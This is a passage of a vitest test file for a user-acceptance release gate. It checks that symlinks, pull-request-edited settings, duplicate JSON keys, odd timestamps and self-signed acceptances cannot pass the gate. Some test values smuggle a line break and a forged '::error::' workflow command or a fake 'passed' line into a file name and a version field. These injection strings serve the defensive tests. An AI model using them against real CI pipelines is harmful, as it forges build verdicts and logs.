// Hazards 100–109 (issue 13): human acceptance passed by accident or by hand. Each case runs the
// commands as the runner or a user does (dist/uat-gate.js with INPUT_* and an event payload,
// dist/cli.js, `uat serve` as a process; after a hazard's first case, the same command or action in
// the test's process: cliCase, actionCase) and failed on the code before the issue.
import { describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Page } from 'playwright-core';
import { actionCase, cliAsync, cliCase, runAction } from '../support/run.js';
import { commitAll as commitTree, copyOf, emptyRepo, git } from '../support/repo.js';
import {
  call,
  EXAMPLE,
  exited,
  makeRun,
  openAddress,
  project,
  savedNow,
  serve,
  UAT,
  useBrowser,
  writeJson,
  writeSpec,
} from '../uat/support.js';
import { ENV_CANARIES, expectNoCanary, sinks } from './support.js';
import { artifactServer } from '../support/artifact-server.js';
import { LOGIN_AMONG_WORDS, OTHER_PEOPLE } from '../support/signed-names.js';

const ID = 'example-1.0.0';
const RUN_ID = 'run-20261129T100000Z-abcd';
const TF = `${UAT}/triage/${ID}.json`;
const ALL_PASS = { E1: 'pass', E2: 'pass', E3: 'pass', E4: 'pass', E5: 'pass' };
const WRITE_OK = { step: 'S2', kind: 'sql', ok: true, at: '2026-11-29T11:00:00Z', by: 'Bea (ran the verify query: 1 row)' };
const runFile = (dir: string, runId = RUN_ID, id = ID) => join(dir, UAT, 'results', id, `${runId}.json`);
const triageFile = (dir: string, id = ID) => join(dir, UAT, 'triage', `${id}.json`);
const triage = (items: unknown[], writeChecks: unknown[] = [WRITE_OK], runId = RUN_ID, specId = ID) => ({
  schema: 'bmad-plus/uat-triage/1',
  specId,
  runId,
  items,
  writeChecks,
});
/** The example passing: a finished, signed run, every check passed, its write confirmed. */
function passing(dir: string): void {
  writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS));
  writeJson(triageFile(dir), triage([]));
}
/** A recipe of its own (not the starter's texts) under `id`, for version `version`. */
function ownRecipe(id: string, version: string): Record<string, any> {
  const spec = structuredClone(EXAMPLE);
  Object.assign(spec, { id, version, title: `Pay for ${id}` });
  spec.testerNote = 'Use the card 4242.';
  spec.witnesses[0].thing = 'The test card exists';
  spec.witnesses[0].check.query = 'SELECT count(*) FROM cards';
  for (const st of spec.steps) {
    st.where = `${st.where} (checkout)`;
    st.do = st.do.map((d: string) => `${d} at checkout`);
    for (const e of st.expect) e.text = `${e.text} at checkout`;
  }
  spec.steps[1].verify.query = 'SELECT count(*) FROM payments';
  return spec;
}
/** One Chromium for the file: each case's browser is contexts of its own (useBrowser). */
const freshBrowser = useBrowser();
const reasons = (stdout: string) => stdout.split('\n').filter((l) => l.startsWith('- '));

/**
 * Commits the tree as a tester would: every run in it that records no code (format 1, as makeRun
 * writes) is bound to the code it was played on (rows 293-296), then the commit is amended to hold the
 * bound runs. A run the parent commit holds keeps the code it recorded there (a run goes on as it was
 * started); a new one records the commit just made, whose code the amended commit keeps.
 */
function commitAll(dir: string, message: string): void {
  commitTree(dir, message);
  const files = git(dir, 'ls-files', '-z', '--', `${UAT}/results`)
    .split('\0')
    .filter((f) => f.endsWith('.json'));
  // One git for both: each is a fork of this large test process.
  const [commit, tree] = git(dir, 'rev-parse', 'HEAD', 'HEAD^{tree}').trim().split('\n');
  const played = { commit, tree };
  let bound = false;
  for (const f of files) {
    let run: Record<string, unknown>;
    try {
      run = JSON.parse(readFileSync(join(dir, f), 'utf8'));
    } catch {
      continue;
    }
    if (run?.schema !== 'bmad-plus/uat-run/1' || 'code' in run) continue;
    let code: unknown = played;
    try {
      code = JSON.parse(git(dir, 'show', `HEAD~1:${f}`)).code ?? played;
    } catch {
      /* a new run: the code just committed */
    }
    const { schema: _, specId, specVersion, specSha256, ...rest } = run;
    writeJson(join(dir, f), { schema: 'bmad-plus/uat-run/2', specId, specVersion, specSha256, code, ...rest });
    bound = true;
  }
  if (bound) {
    git(dir, 'add', '-A');
    git(dir, 'commit', '-q', '--amend', '--no-edit', '--allow-empty');
  }
}

describe('#464 a link where the runs or the recipes are listed', () => {
  // A committed link may loop, dangle or lead out of the tree: listing through it crashed (ELOOP), read as no run, or listed foreign files.
  const outside = () => {
    const there = mkdtempSync(join(tmpdir(), 'proofgate-outside-'));
    passing(there);
    return join(there, UAT, 'results', ID);
  };
  const links: [string, string, () => string][] = [
    ['the runs folder, a loop', 'results', () => 'results'],
    ["a recipe's run folder, a loop", `results/${ID}`, () => ID],
    ["a recipe's run folder, dangling", `results/${ID}`, () => 'gone'],
    ["a recipe's run folder, out of the tree (runs that pass there)", `results/${ID}`, outside],
  ];
  for (const [what, at, target] of links)
    it(`#464 ${what}: uat gate, read and verify refuse it naming the link, never an unexpected error nor "no run yet"`, async () => {
      const dir = project();
      mkdirSync(join(dir, UAT, 'results'), { recursive: true });
      if (at === 'results') rmSync(join(dir, UAT, 'results'), { recursive: true });
      symlinkSync(target(), join(dir, UAT, at));
      for (const command of ['gate', 'read', 'verify']) {
        const r = await cliCase(dir, ['uat', command, ID]);
        expect(r.code, command).toBe(3);
        expect(r.stderr, command).toContain(`${UAT}/results`);
        expect(r.stderr, command).toMatch(/symbolic link/);
        expect(`${r.stdout}${r.stderr}`, command).not.toMatch(/unexpected error|ELOOP|no run/i);
      }
    });

  it('#464 the recipes folder a link out of the tree (a recipe passed there): uat release-gate could not run, naming the link', async () => {
    const dir = project();
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    const there = mkdtempSync(join(tmpdir(), 'proofgate-outside-'));
    cpSync(join(dir, UAT, 'specs'), join(there, 'specs'), { recursive: true });
    rmSync(join(dir, UAT, 'specs'), { recursive: true });
    symlinkSync(join(there, 'specs'), join(dir, UAT, 'specs'));
    passing(dir);
    const r = await cliCase(dir, ['uat', 'release-gate']);
    // A release gate that could not run (exit 4), never a pass.
    expect(r.code).toBe(4);
    expect(r.stdout).toContain('release gate could not run (not a pass)');
    expect(r.stdout).toContain(`${UAT}/specs: it is a symbolic link`);
  });
});

describe('#100 a release holds while any recipe of its version is not passed', () => {
  it('uat release-gate gates every recipe of the version, lists each, and the worst decides', async () => {
    const dir = project();
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    passing(dir);
    // A second recipe of 1.0.0 that nobody finished: the first found passing must not release it.
    const pay = ownRecipe('pay-1.0.0', '1.0.0');
    writeSpec(dir, pay);
    writeJson(runFile(dir, RUN_ID, 'pay-1.0.0'), makeRun(pay, { E1: 'pass' }, { finishedAt: null }));
    writeSpec(dir, ownRecipe('pay-0.9.0', '0.9.0'));
    let r = await cliCase(dir, ['uat', 'release-gate']);
    expect(r.code).toBe(2);
    expect(r.stdout.split('\n')[0]).toBe('release 1.0.0: awaiting \u2014 2 recipe(s): example-1.0.0 passed, pay-1.0.0 awaiting');
    expect(r.stdout).toContain('\nexample-1.0.0: passed (run by Ana Test)\n');
    expect(r.stdout).toContain(
      '\npay-1.0.0: awaiting\n- the run run-20261129T100000Z-abcd is not finished: 4 of 5 expectations still to do\n',
    );
    expect(JSON.parse((await cliCase(dir, ['uat', 'release-gate', '--json'])).stdout)).toMatchObject({
      verdict: 'awaiting',
      version: '1.0.0',
      recipes: [
        { id: 'example-1.0.0', verdict: 'passed', exitCode: 0 },
        { id: 'pay-1.0.0', verdict: 'awaiting', exitCode: 2 },
      ],
    });
    expect((await cliCase(dir, ['uat', 'spec-present'])).stdout).toBe('version 1.0.0 has 2 recipe(s): example-1.0.0, pay-1.0.0\n');
    // A spec whose version cannot be read may be one of them: the gate cannot run, never a pass.
    writeFileSync(join(dir, UAT, 'specs/broken.json'), '{"version": "1.0.0", "version": "0.1.0"}');
    r = await cliCase(dir, ['uat', 'release-gate']);
    expect(r.code).toBe(4);
    expect(r.stdout).toContain(
      '- _bmad-output/uat/specs/broken.json may be a recipe of 1.0.0: its version cannot be read: _bmad-output/uat/specs/broken.json has a duplicate key in an object (each key may appear once)',
    );
  });

  it('#141 a spec file name or a package version holding a line break forges no line of the release gate', async () => {
    const dir = project();
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    passing(dir);
    writeFileSync(join(dir, UAT, 'specs', 'z\nrelease 1.0.0: passed.json'), '{bad');
    const r = await cliCase(dir, ['uat', 'release-gate']);
    expect(r.code).toBe(4);
    expect(r.stdout).toContain('specs/zU+000Arelease 1.0.0: passed.json may be a recipe of 1.0.0');
    expect(r.stdout.split('\n').filter((l) => l.startsWith('release 1.0.0: passed'))).toEqual([]);
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0\\n::error::x"}');
    expect((await cliCase(dir, ['uat', 'release-gate'])).stdout.split('\n')[0]).toBe(
      'release gate could not run: version 1.0.0U+000A::error::x has no recipe (not a pass)',
    );
  });

  it('#141 a failing recipe edited out of the release by its `version` field alone: the release gate cannot run', async () => {
    const dir = project();
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    passing(dir);
    const pay = ownRecipe('pay-1.0.0', '1.0.0-wip');
    writeSpec(dir, pay);
    writeJson(runFile(dir, RUN_ID, 'pay-1.0.0'), makeRun(pay, { ...ALL_PASS, E3: 'fail' }));
    const r = await cliCase(dir, ['uat', 'release-gate']);
    expect(r.code).toBe(4);
    expect(r.stdout).toContain(
      '- _bmad-output/uat/specs/pay-1.0.0.json may be a recipe of 1.0.0: its id names 1.0.0, but its `version` is "1.0.0-wip"',
    );
  });

  it('#145 the release as the base has it: a version edited in package.json or in a spec whose id names none takes no recipe out; a deleted recipe cannot pass', async () => {
    const dir = emptyRepo('proofgate-uat-release-');
    writeFileSync(join(dir, 'package.json'), '{"version": "1.1.0"}');
    writeSpec(dir, EXAMPLE);
    passing(dir);
    const checkout = ownRecipe('checkout', '1.1.0');
    writeSpec(dir, checkout);
    writeJson(runFile(dir, RUN_ID, 'checkout'), makeRun(checkout, { ...ALL_PASS, E3: 'fail' }));
    writeSpec(dir, ownRecipe('refund', '1.1.0'));
    commitAll(dir, 'base: 1.1.0 with a failing checkout recipe');
    const base = git(dir, 'rev-parse', 'HEAD').trim();
    expect((await cliCase(dir, ['uat', 'release-gate', '--base', base])).code).toBe(1);
    // The change: package.json back to 1.0.0 (whose one recipe passed), checkout's version edited, refund deleted.
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    writeSpec(dir, { ...checkout, version: '1.1.0-wip' });
    git(dir, 'rm', '-q', `${UAT}/specs/refund.json`);
    commitAll(dir, 'the pull request');
    // package.json is code: the runs played before the change are stale for it (row 293), base or not.
    expect((await cliCase(dir, ['uat', 'release-gate'])).stdout.split('\n')[0]).toBe(
      'release 1.0.0: stale \u2014 1 recipe(s): example-1.0.0 stale',
    );
    const r = await cliCase(dir, ['uat', 'release-gate', '--base', base]);
    expect(r.code).toBe(4);
    expect(r.stdout.split('\n')[0]).toBe(
      "release 1.0.0 (the base's is 1.1.0): could-not-run (not a pass) \u2014 2 recipe(s): checkout stale, example-1.0.0 stale",
    );
    expect(r.stdout).toContain(
      '- _bmad-output/uat/specs/refund.json may be a recipe of 1.0.0: the base has it as a recipe of 1.1.0, and the change deletes it',
    );
    const event = { pull_request: { number: 7, base: { sha: base, ref: 'main' }, head: { sha: git(dir, 'rev-parse', 'HEAD').trim() } } };
    const action = await actionCase('uat-gate.js', dir, { 'from-package-version': 'true', mode: 'gate' }, { env: ENV_CANARIES, event });
    expect(action.code).toBe(1);
    expect(action.outputs.verdict).toBe('error');
    expect(JSON.parse(action.outputs.recipes!).map((o: { id: string; verdict: string }) => [o.id, o.verdict])).toEqual([
      ['_bmad-output/uat/specs/refund.json', 'error'],
      ['checkout', 'stale'],
      ['example-1.0.0', 'stale'],
    ]);
  });

  it("#145 with a base, the base says where the recipes are: a change that points the uat folder elsewhere gates the base's recipes still", async () => {
    const dir = emptyRepo('proofgate-uat-folder-');
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    writeSpec(dir, EXAMPLE);
    passing(dir);
    const checkout = ownRecipe('checkout-1.0.0', '1.0.0');
    writeSpec(dir, checkout);
    writeJson(runFile(dir, RUN_ID, 'checkout-1.0.0'), makeRun(checkout, { ...ALL_PASS, E3: 'fail' }));
    commitAll(dir, 'base');
    const base = git(dir, 'rev-parse', 'HEAD').trim();
    mkdirSync(join(dir, '_bmad'), { recursive: true });
    writeFileSync(join(dir, '_bmad/config.yaml'), 'uat:\n  dir: qa\n');
    mkdirSync(join(dir, 'qa'), { recursive: true });
    cpSync(join(dir, UAT, 'specs'), join(dir, 'qa/specs'), { recursive: true });
    rmSync(join(dir, 'qa/specs/checkout-1.0.0.json'));
    cpSync(join(dir, UAT, 'results'), join(dir, 'qa/results'), { recursive: true });
    cpSync(join(dir, UAT, 'triage'), join(dir, 'qa/triage'), { recursive: true });
    commitAll(dir, 'the pull request: the uat folder elsewhere');
    // _bmad/config.yaml is outside the uat folder: the runs are stale for the change's code (row 293).
    expect((await cliCase(dir, ['uat', 'release-gate'])).code).toBe(3);
    const r = await cliCase(dir, ['uat', 'release-gate', '--base', base]);
    // The base's recipes are gated (checkout-1.0.0 is listed), each stale for the change's code before its failures are read.
    expect(r.code, r.stdout).toBe(3);
    expect(r.stdout.split('\n')[0]).toBe('release 1.0.0: stale \u2014 2 recipe(s): checkout-1.0.0 stale, example-1.0.0 stale');
  });

  it('the action with from-package-version gates every recipe and its summary lists each state', async () => {
    const dir = project();
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    passing(dir);
    writeSpec(dir, ownRecipe('pay-1.0.0', '1.0.0'));
    const r = await actionCase('uat-gate.js', dir, { 'from-package-version': 'true', mode: 'gate' }, { env: ENV_CANARIES });
    expect(r.code).toBe(1);
    expect(r.outputs).toMatchObject({ verdict: 'awaiting', 'exit-code': '2', mode: 'gate' });
    expect(JSON.parse(r.outputs.recipes!)).toEqual([
      { id: 'example-1.0.0', verdict: 'passed', 'exit-code': 0, page: null },
      { id: 'pay-1.0.0', verdict: 'awaiting', 'exit-code': 2, page: null },
    ]);
    expect(r.commands).toEqual(['::error::uat gate version 1.0.0: awaiting']);
    expect(r.summary).toContain('| `example-1.0.0` | passed | Ana Test |\n| `pay-1.0.0` | awaiting | \u2014 |');
    expectNoCanary(sinks(r, [dir]));
  });
});

/** A repository whose base commit says `base` in _bmad/config.yaml and whose pull request commit says `head`. */
function pullRequestRepo(base: string, head: string, change: (dir: string) => void): { dir: string; event: unknown } {
  const dir = emptyRepo('proofgate-uat-pr-');
  mkdirSync(join(dir, '_bmad'));
  writeFileSync(join(dir, '_bmad/config.yaml'), base);
  writeSpec(dir, EXAMPLE);
  commitAll(dir, 'base');
  const baseSha = git(dir, 'rev-parse', 'HEAD').trim();
  writeFileSync(join(dir, '_bmad/config.yaml'), head);
  change(dir);
  commitAll(dir, 'the pull request');
  const headSha = git(dir, 'rev-parse', 'HEAD').trim();
  return { dir, event: { pull_request: { number: 7, base: { sha: baseSha }, head: { sha: headSha } } } };
}

describe('#101 a pull request cannot set the uat settings that judge it', () => {
  it('mode: the base says gate; the pull request says off (or advisory): the gate still fails the step', async () => {
    for (const mode of ['off', 'advisory']) {
      const { dir, event } = pullRequestRepo('uat:\n  mode: gate\n', `uat:\n  mode: ${mode}\n`, (d) =>
        writeJson(runFile(d), makeRun(EXAMPLE, { ...ALL_PASS, E3: 'fail' })),
      );
      const r = await actionCase('uat-gate.js', dir, { id: ID, 'forbid-tester': 'octo-author' }, { event, env: ENV_CANARIES });
      expect(r.code, mode).toBe(1);
      expect(r.outputs).toMatchObject({ mode: 'gate', verdict: 'failed', 'exit-code': '1' });
      expect(r.commands).toEqual(['::error::uat gate example-1.0.0: failed']);
      expect(r.summary).toContain(
        'This change edits the uat settings in `_bmad/config.yaml`; they apply after merge. This gate used the settings of the base commit',
      );
      // Outside a pull request (a push of the merged commit), the checkout's settings are the trusted ones.
      const push = await actionCase('uat-gate.js', dir, { id: ID }, { env: ENV_CANARIES });
      expect(push.outputs.mode).toBe(mode);
    }
  });

  it('dir and page budget: a folder the pull request points at, and a budget it raises, are not used', async () => {
    const { dir, event } = pullRequestRepo(
      'uat:\n  mode: gate\n  page_budget:\n    steps: 2\n',
      'uat:\n  mode: gate\n  dir: fake\n  page_budget:\n    steps: 50\n',
      (d) => {
        // A passing run in a folder of the pull request's choosing.
        mkdirSync(join(d, 'fake/specs'), { recursive: true });
        writeFileSync(join(d, 'fake/specs', `${ID}.json`), JSON.stringify(EXAMPLE));
        writeJson(join(d, 'fake/results', ID, `${RUN_ID}.json`), makeRun(EXAMPLE, ALL_PASS));
        writeJson(join(d, 'fake/triage', `${ID}.json`), triage([]));
      },
    );
    let r = await actionCase('uat-gate.js', dir, { id: ID }, { event, env: ENV_CANARIES });
    expect([r.code, r.outputs.verdict]).toEqual([1, 'awaiting']);
    r = await actionCase('uat-gate.js', dir, { id: ID, 'build-page': 'true' }, { event, env: ENV_CANARIES });
    expect([r.code, r.outputs.verdict]).toEqual([1, 'lint-failed']);
    expect(r.stdout).toContain('- /steps: 3 steps is over the page budget of 2; split the recipe into ordered pages');
  });

  it('a base commit missing from the clone is an error naming fetch-depth, never the head settings', async () => {
    const { dir } = pullRequestRepo('uat:\n  mode: gate\n', 'uat:\n  mode: off\n', () => undefined);
    const event = { pull_request: { number: 7, base: { sha: 'f'.repeat(40) }, head: { sha: 'e'.repeat(40) } } };
    const r = await actionCase('uat-gate.js', dir, { id: ID }, { event, env: ENV_CANARIES });
    expect(r.code).toBe(1);
    expect(r.outputs['exit-code']).toBe('3');
    expect(r.commands).toEqual([
      expect.stringMatching(/^::error::the base commit f{12} is not in the clone: check out with `fetch-depth: 0`/),
    ]);
  });
});

describe('#607 a run of the pull request whose event names no base reads no settings of its own', () => {
  it('#607 a comment on the pull request and a workflow_run of its run: the step fails in every mode, never off by the head settings', async () => {
    const { dir } = pullRequestRepo('uat:\n  mode: gate\n', 'uat:\n  mode: off\n', (d) =>
      writeJson(runFile(d), makeRun(EXAMPLE, { ...ALL_PASS, E3: 'fail' })),
    );
    const runs: [string, unknown][] = [
      [
        'issue_comment',
        { issue: { number: 7, pull_request: { url: 'https://api.github.com/repos/acme/shop/pulls/7' } }, comment: { body: '/uat' } },
      ],
      [
        'workflow_run',
        { workflow_run: { event: 'pull_request', head_sha: git(dir, 'rev-parse', 'HEAD').trim(), pull_requests: [{ number: 7 }] } },
      ],
    ];
    for (const [name, event] of runs) {
      const env = { ...ENV_CANARIES, GITHUB_EVENT_NAME: name };
      for (const inputs of [{}, { mode: 'advisory' }, { mode: 'gate' }] as Record<string, string>[]) {
        const r = await actionCase('uat-gate.js', dir, { id: ID, 'forbid-tester': 'octo-author', ...inputs }, { event, env });
        expect([r.code, r.outputs.verdict, r.outputs['exit-code']], `${name} ${JSON.stringify(inputs)}`).toEqual([1, 'error', '3']);
        expect(r.commands).toEqual([expect.stringMatching(new RegExp(`^::error::this ${name} .*names no base commit`))]);
        expect(r.summary).toContain('the gate could not run');
      }
      // The workflow's own `mode: off` still wins over every file: nothing is read.
      const off = await actionCase('uat-gate.js', dir, { id: ID, mode: 'off' }, { event, env });
      expect([off.code, off.outputs.verdict], name).toEqual([0, 'off']);
    }
  });
});

describe('#102 a run or triage file with a key written twice', () => {
  it('a run whose answer says "fail" then "pass" is not a usable run', async () => {
    const dir = project();
    const text = JSON.stringify(makeRun(EXAMPLE, ALL_PASS), null, 2).replace(
      '"status": "pass"',
      '"status": "fail",\n      "status": "pass"',
    );
    mkdirSync(join(dir, UAT, 'results', ID), { recursive: true });
    writeFileSync(runFile(dir), text);
    writeJson(triageFile(dir), triage([]));
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(1);
    expect(reasons(r.stdout)).toEqual([
      `- ${UAT}/results/${ID}/${RUN_ID}.json is not a usable run: not a run: has a duplicate key in an object (each key may appear once)`,
    ]);
  });

  it('a triage whose decision says "ask-tester" then "fix" is refused (exit 3)', async () => {
    const dir = project();
    writeJson(runFile(dir), makeRun(EXAMPLE, { ...ALL_PASS, E5: 'fail' }));
    const text = JSON.stringify(triage([{ expect: 'E5', class: 'product', decision: 'ask-tester' }])).replace(
      '"decision":"ask-tester"',
      '"decision":"ask-tester","decision":"fix"',
    );
    mkdirSync(join(dir, UAT, 'triage'), { recursive: true });
    writeFileSync(triageFile(dir), text);
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(3);
    expect(r.stderr).toBe(`proofgate: ${TF} has a duplicate key in an object (each key may appear once)\n`);
  });
});

describe('#103 the latest run and the latest write check by the instant, not the text', () => {
  it('a later run written with another offset is the latest; a time that is none is refused', async () => {
    const dir = project();
    // 10:00+01:00 is 09:00Z, before 09:30Z; as text it sorts last.
    writeJson(runFile(dir, 'run-a'), makeRun(EXAMPLE, ALL_PASS, { runId: 'run-a', startedAt: '2026-11-29T10:00:00+01:00' }));
    writeJson(
      runFile(dir, 'run-b'),
      makeRun(
        EXAMPLE,
        { ...ALL_PASS, E5: 'fail' },
        { runId: 'run-b', startedAt: '2026-11-29T09:30:00Z', updatedAt: '2026-11-29T09:40:00Z' },
      ),
    );
    writeJson(triageFile(dir), triage([], [WRITE_OK], 'run-a'));
    let r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(1);
    expect(reasons(r.stdout)[0]).toBe(`- ${TF} answers run run-a, not the latest run run-b: triage the latest run there`);
    writeJson(runFile(dir, 'run-c'), makeRun(EXAMPLE, ALL_PASS, { runId: 'run-c', startedAt: 'yesterday' }));
    writeJson(runFile(dir, 'run-d'), makeRun(EXAMPLE, ALL_PASS, { runId: 'run-d', finishedAt: '2026-02-30T10:00:00Z' }));
    r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(reasons(r.stdout)).toEqual(
      expect.arrayContaining([
        `- ${UAT}/results/${ID}/run-c.json is not a usable run: /startedAt: not a time: write ISO 8601 with its offset, e.g. 2026-11-29T10:00:00Z`,
        `- ${UAT}/results/${ID}/run-d.json is not a usable run: /finishedAt: not a time: write ISO 8601 with its offset, e.g. 2026-11-29T10:00:00Z`,
      ]),
    );
  });

  it('the write check recorded last in time decides, whatever its text says', async () => {
    const dir = project();
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS));
    // 13:25+03:00 is 10:25Z: the failed check at 10:30Z came after it (both after the run's finish, 10:20Z).
    writeJson(
      triageFile(dir),
      triage(
        [],
        [
          { ...WRITE_OK, ok: false, at: '2026-11-29T10:30:00Z', by: 'Cy (0 rows)' },
          { ...WRITE_OK, at: '2026-11-29T13:25:00+03:00' },
        ],
      ),
    );
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(1);
    expect(reasons(r.stdout)).toEqual([
      '- S2 writes and passed, but its write check failed (Cy (0 rows), 2026-11-29T10:30:00Z): the tick is not a write',
    ]);
    writeJson(triageFile(dir), triage([], [{ ...WRITE_OK, at: 'soon' }]));
    expect((await cliCase(dir, ['uat', 'gate', ID])).stderr).toContain('/writeChecks/0/at: not a time');
  });

  it('#103 a run dated ahead of this clock is not a run: the one played after it decides', async () => {
    const dir = project();
    const future = {
      runId: 'run-ana',
      startedAt: '2099-12-01T10:00:00Z',
      updatedAt: '2099-12-01T10:20:00Z',
      finishedAt: '2099-12-01T10:20:00Z',
    };
    writeJson(runFile(dir, 'run-ana'), makeRun(EXAMPLE, ALL_PASS, future));
    writeJson(runFile(dir, 'run-bob'), makeRun(EXAMPLE, { ...ALL_PASS, E1: 'fail' }, { runId: 'run-bob', tester: 'Bob Tester' }));
    writeJson(triageFile(dir), triage([], [WRITE_OK], 'run-bob'));
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(1);
    expect(reasons(r.stdout)).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/run-ana\.json is not a usable run: \/startedAt: "2099-12-01T10:00:00Z" is in the future/),
        `- E1 (failed) is not triaged: add a class and a decision in ${TF}`,
      ]),
    );
    // An answer stamped outside its run is refused the same way.
    const early = makeRun(EXAMPLE, ALL_PASS, { runId: 'run-cy' });
    early.answers[0].at = '1970-01-01T00:00:00Z';
    writeJson(runFile(dir, 'run-cy'), early);
    expect((await cliCase(dir, ['uat', 'gate', ID])).stdout).toMatch(
      /run-cy\.json is not a usable run: \/answers\/0\/at: "1970-01-01T00:00:00Z" is outside the run/,
    );
  });

  it("#103 a write check made before the run started is an earlier run's, never this one's", async () => {
    const dir = project();
    writeJson(
      runFile(dir),
      makeRun(EXAMPLE, ALL_PASS, {
        startedAt: '2026-11-29T12:00:00Z',
        updatedAt: '2026-11-29T12:20:00Z',
        finishedAt: '2026-11-29T12:20:00Z',
      }),
    );
    writeJson(triageFile(dir), triage([])); // WRITE_OK is at 11:00Z, an hour before
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(1);
    expect(reasons(r.stdout)).toEqual([
      expect.stringMatching(
        /^- S2 writes and passed, but no write check is recorded: .*\(the one recorded was made before S2 was last answered, 2026-11-29T12:20:00Z: it saw only what was there already, an earlier run's write\)$/,
      ),
    ]);
  });
});

describe('#147 a run file that is not the run it names', () => {
  it('#147 a run whose specVersion is not the version of the revision it answers, or stored under another name than its runId, is not a run', async () => {
    const dir = project();
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { specVersion: '0.9.0' }));
    writeJson(triageFile(dir), triage([]));
    let r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).not.toBe(0);
    expect(r.stdout).toContain('/specVersion: is "0.9.0", but the revision it answers is version "1.0.0"');
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS));
    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(0);
    // The same run copied under another name, edited: it names a run that is not this file.
    writeJson(join(dir, UAT, 'results', ID, 'run-20261129T110000Z-zzzz.json'), makeRun(EXAMPLE, { ...ALL_PASS, E3: 'fail' }));
    r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.stdout).toContain('its runId is "run-20261129T100000Z-abcd": a run is stored as <runId>.json');
  });
});

describe('adversarial 369 the author accepting their own work under their name and a label', () => {
  it.each([
    ['a role in parentheses', 'Octocat (PR author)'],
    ["GitHub's bot suffix", 'octocat[bot]'],
    ['full-width brackets', 'Octo Cat【author】'],
  ])('adversarial 369 %s: "%s" reads as the forbidden login; another login that starts the same does not', (_why, tester) =>
    expectReadAs(tester, 'octocat', 'octocat2 (QA)'),
  );
});

describe('#644 the author accepting their own work under their name and a label the bracket rule missed', () => {
  // Nested, unclosed, any Unicode bracket or quote pair, a label after a separator or a word, a no-reply address.
  const LABELLED = [
    'Octocat ((PR) author)',
    'Octocat (PR author',
    'Octocat「author」',
    'Octocat《PR author》',
    'Octocat «author»',
    'Octocat〔bot〕',
    'Octocat ⟨author⟩',
    'Octocat ❨author❩',
    'Octocat 〈author〉',
    'Octocat ⦅author⦆',
    'Octocat『PR』',
    'Octocat ‹bot›',
    'Octocat - PR author',
    'Octocat — PR author',
    'Octocat, the author',
    'Octocat PR-author',
    'octocat@users.noreply.github.com',
    '583231+octocat@users.noreply.github.com',
  ];
  const SELF = 'reads as "octocat", who may not accept their own work';
  /** The uat-gate bundle with `forbid-tester: login` over what the project holds: failed on the author's acceptance. */
  async function refused(dir: string, who: string, first: boolean, login = 'octocat'): Promise<void> {
    const inputs = { id: ID, mode: 'gate', 'forbid-tester': login };
    const r = first ? runAction('uat-gate.js', dir, inputs, { env: ENV_CANARIES }) : await actionCase('uat-gate.js', dir, inputs);
    expect(r.code, who).toBe(1);
    expect(r.outputs, who).toMatchObject({ verdict: 'failed', 'exit-code': '1' });
    // A forbidden name of its own is shown as the summary escapes it (`\(`, a code span): the CLI's words are checked below.
    expect(r.summary, who).toContain(login === 'octocat' ? SELF : 'who may not accept their own work');
  }
  async function passes(dir: string, who: string): Promise<void> {
    const r = await actionCase('uat-gate.js', dir, { id: ID, mode: 'gate', 'forbid-tester': 'octocat' });
    expect(r.code, who).toBe(0);
    expect(r.outputs, who).toMatchObject({ verdict: 'passed', 'exit-code': '0' });
  }

  it('#644 a tester signed with the login and a label reads as the login (uat-gate bundle); octocat2 still passes', async () => {
    const dir = project();
    writeJson(triageFile(dir), triage([]));
    for (const [i, tester] of LABELLED.entries()) {
      writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester }));
      await refused(dir, tester, i === 0);
      if (i === 0) {
        const cli = await cliCase(dir, ['uat', 'gate', ID, '--forbid-tester', 'octocat']);
        expect(reasons(cli.stdout)).toEqual([`- the run was played by ${JSON.stringify(tester)}, which ${SELF}`]);
      }
    }
    for (const tester of ['octocat2 - QA', 'octocat2 (QA', 'Octocats, QA', 'Mona-Octocat']) {
      writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester }));
      await passes(dir, tester);
    }
  });

  it('#644 an accepted risk owned by the login with a label settles nothing (uat-gate bundle); octocat2 may own it', async () => {
    const dir = project();
    writeJson(runFile(dir), makeRun(EXAMPLE, { ...ALL_PASS, E4: 'blocked' }, { tester: 'Bea Test' }));
    const owned = (owner: string) =>
      triage([{ expect: 'E4', class: 'data', decision: 'accept-risk', owner, note: 'the card form is out of scope' }]);
    for (const [i, owner] of LABELLED.entries()) {
      writeJson(triageFile(dir), owned(owner));
      await refused(dir, owner, i === 0);
    }
    writeJson(triageFile(dir), owned('octocat2 (QA lead)'));
    await passes(dir, 'octocat2 (QA lead)');
  });

  it('#644 a write check recorded by the login with a label confirms nothing (uat-gate bundle); octocat2 may record it', async () => {
    const dir = project();
